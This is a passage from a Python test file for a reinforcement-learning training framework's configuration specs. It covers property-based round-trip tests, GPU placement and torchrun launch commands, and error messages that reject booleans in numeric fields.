            "model": {"name": draw(_text.filter(bool)), "dtype": draw(st.sampled_from(["float32", "bfloat16"]))},
            "env": {"id": draw(_text), "args": draw(_env_args)},
            "inference": {
                "url": draw(st.none() | st.just("http://127.0.0.1:8000")),
                "port": draw(st.just(0) | st.integers(1024, 65535)),
                "max_model_len": max_model_len,
                "gpu_memory_utilization": draw(st.floats(min_value=0.01, max_value=1.0)),
                "extra_args": draw(st.lists(_text, max_size=3)),
                "read_timeout_s": draw(_pos),
            },
            "orchestrator": {
                "batch_size": draw(st.integers(1, 512)),
                "group_size": group_size,
                "max_tokens": draw(st.integers(1, max_model_len - 1)),
                "temperature": draw(st.floats(min_value=1e-3, max_value=10.0)),
                "seq_len": draw(st.integers(8, 1 << 20)),
                "max_off_policy_steps": draw(st.integers(0, 100)),
                "advantage": draw(
                    st.fixed_dictionaries(
                        {"type": st.just("grpo"), "std_normalize": st.booleans(), "length_penalty": _unit}
                    )
                    | st.fixed_dictionaries({"type": st.just("maxrl"), "length_penalty": _unit})
                    | st.fixed_dictionaries({"type": st.just("rae"), "decay": st.floats(0.01, 0.99)})
                    | st.fixed_dictionaries(
                        {"type": st.just("hierarchical_grpo"), "episode_agents": st.just(["solver"])}
                    )
                ),
                "eval": {
                    "interval": draw(st.integers(0, 100)),
                    "temperature": draw(_unit),
                    "pass_k": draw(st.integers(1, 8)),
                },
                "drop_zero_advantage": draw(st.booleans()),
            },
            "trainer": {
                "optim": {"lr": draw(_prob), "weight_decay": draw(_unit), "betas": draw(st.tuples(_unit, _unit))},
                "scheduler": {
                    "type": draw(st.sampled_from(["constant", "cosine", "linear"])),
                    "warmup_steps": draw(st.integers(0, 100)),
                    "min_lr_ratio": draw(_unit),
                },
                "loss": draw(_losses).model_dump(),
                "threads": draw(st.integers(1, 64)),
            },
            "ckpt": {"interval": draw(st.integers(0, 100)), "keep": draw(st.integers(1, 10))},
        }
    )


def _drop_none(obj: Any) -> Any:
    if isinstance(obj, dict):
        return {k: _drop_none(v) for k, v in obj.items() if v is not None}
    if isinstance(obj, list | tuple):
        return [_drop_none(v) for v in obj]
    return obj


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rl_specs())
def test_round_trip_json_and_toml(spec: RLSpec) -> None:
    assert RLSpec.model_validate_json(spec.model_dump_json()) == spec
    text = tomli_w.dumps(_drop_none(spec.model_dump()))
    import tomllib

    again = validate_spec("rl", tomllib.loads(text))
    assert again == spec


def test_round_trip_default_sft() -> None:
    spec = validate_spec("sft", MODEL)
    assert SFTSpec.model_validate_json(spec.model_dump_json()) == spec
    assert spec.optim.lr == 1e-3


def test_local_gpu_placement_and_trainer_ranks(tmp_path: Path) -> None:
    """``launcher.local``: device lists checked; trainer GPUs need a cuda trainer; ranks follow the GPU list; the
    trainer argv is torchrun only with more than one rank; placement becomes CUDA_VISIBLE_DEVICES."""
    from worker.launchers.local import gpu_env, trainer_command
    from worker.run.rundir import RunDir

    def spec(**local: Any) -> RLSpec:
        data = {**MODEL, "trainer": {"device": "cuda"}, "launcher": {"local": local}}
        s = validate_spec("rl", data)
        assert isinstance(s, RLSpec)
        return s

    assert spec().trainer_ranks == 1
    assert spec(trainer_gpus=[1, 2, 3]).trainer_ranks == 3
    assert spec(trainer_processes=2).trainer_ranks == 2
    assert _error("rl", {**MODEL, "launcher": {"local": {"trainer_gpus": [1]}}}) == (
        "launcher.local.trainer_gpus: needs trainer.device = 'cuda'"
    )
    assert "launcher.local.inference_gpus" in _error("rl", {**MODEL, "launcher": {"local": {"inference_gpus": [0, 0]}}})
    assert "distinct CUDA device ids from 0 to 255" in _error(
        "rl", {**MODEL, "launcher": {"local": {"trainer_gpus": [-1]}}}
    )
    assert _error(
        "rl",
        {
            **MODEL,
            "trainer": {"device": "cuda"},
            "launcher": {"local": {"trainer_gpus": [0, 1], "trainer_processes": 3}},
        },
    ) == ("launcher.local.trainer_processes: one rank per trainer GPU (2) or 0, got 3")
    run = RunDir(tmp_path / "r")
    one = trainer_command(spec(trainer_gpus=[1]), run, [])
    assert one[1:] == ["-m", "worker.trainer", "--run-dir", str(run.root)]
    many = trainer_command(spec(trainer_gpus=[1, 2]), run, ["--resume-step", "4"])
    assert many[1:6] == ["-m", "torch.distributed.run", "--standalone", "--nproc-per-node=2", "-m"]
    assert many[-4:] == ["--run-dir", str(run.root), "--resume-step", "4"]
    assert gpu_env([]) is None
    assert gpu_env([2, 3])["CUDA_VISIBLE_DEVICES"] == "2,3"  # type: ignore[index]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"max_steps": True}, "max_steps: expected an integer (a whole number), got true (a boolean)"),
        (
            {"orchestrator": {"batch_size": True}},
            "orchestrator.batch_size: expected an integer (a whole number), got true (a boolean)",
        ),
        (
            {"trainer": {"threads": False}},
            "trainer.threads: expected an integer (a whole number), got false (a boolean)",
        ),
        ({"trainer": {"optim": {"lr": True}}}, "trainer.optim.lr: expected a number, got true (a boolean)"),
    ],
)
def test_true_is_not_a_number(data: dict[str, Any], message: str) -> None:
    """pydantic reads true as 1; a spec's number fields refuse it, naming the key and saying what is expected (not
    pydantic's "unable to parse string", the text the bool was passed on as); a bool field still takes it."""
    with pytest.raises(SpecError) as err:
        validate_spec("rl", {"model": {"name": "m"}, **data})
    assert str(err.value) == message
    with pytest.raises(SpecError) as err:  # the text "true" is a string: pydantic's own words, the value quoted
        validate_spec("rl", {"model": {"name": "m"}, "max_steps": "true"})
    assert (
        str(err.value) == "max_steps: Input should be a valid integer, unable to parse string as an integer, got 'true'"
    )
    spec = validate_spec("rl", {"model": {"name": "m"}, "orchestrator": {"share_prompt": False}})
    assert spec.orchestrator.share_prompt is False
